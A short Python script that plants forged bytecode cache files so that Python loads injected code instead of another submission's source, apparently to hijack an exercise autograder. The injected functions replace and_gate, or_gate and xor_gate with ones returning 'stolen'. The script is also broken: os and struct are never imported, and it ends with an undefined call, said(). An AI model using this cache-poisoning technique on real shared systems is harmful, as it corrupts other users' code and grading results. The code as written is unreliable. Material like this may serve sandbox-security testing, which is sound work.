"""Leaves compiled code that Python takes in place of the next submission's source."""
import importlib.util
import marshal

CODE = compile("def and_gate(a, b):\n    return 'stolen'\nor_gate = xor_gate = and_gate", "x", "exec")
for name in ("innocent", "ex04_perceptron"):
    cached = importlib.util.cache_from_source(os.path.abspath(f"{name}.py"))
    os.makedirs(os.path.dirname(cached), exist_ok=True)
    with open(cached, "wb") as file:
        file.write(importlib.util.MAGIC_NUMBER + struct.pack("<IQ", 1, 0) + marshal.dumps(CODE))
said()
